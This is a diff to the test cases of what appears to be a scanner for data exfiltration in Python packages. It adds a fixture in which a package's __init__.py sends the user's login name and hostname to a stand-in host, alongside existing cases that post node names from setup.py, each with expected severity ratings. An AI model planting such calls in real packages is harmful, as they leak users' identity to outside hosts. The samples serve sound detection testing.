@@ -42,6 +42,13 @@ CASES = [
      "requests.get('https://t.example.net/t', params={'n': platform.node()})\n"
      "requests.post('https://t.example.net/t', json=info)\n",
      {3: "high", 4: "medium", 5: "medium"}),
+    ("login-name-in-http-client-url-high", HOST, "pkg/__init__.py",
+     "import getpass, socket, http.client\n"
+     "from urllib.parse import urlencode\n"
+     "conn = http.client.HTTPConnection('c.example.net')\n"
+     "conn.request('GET', '/c?' + urlencode({'u': getpass.getuser()}))\n"
+     "conn.request('POST', '/h', body=socket.gethostname())\n",
+     {4: "high", 5: "medium"}),
     ("setup-py-sends-identity-high", HOST, "pkg/setup.py",
      "import platform, requests\n"
      "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
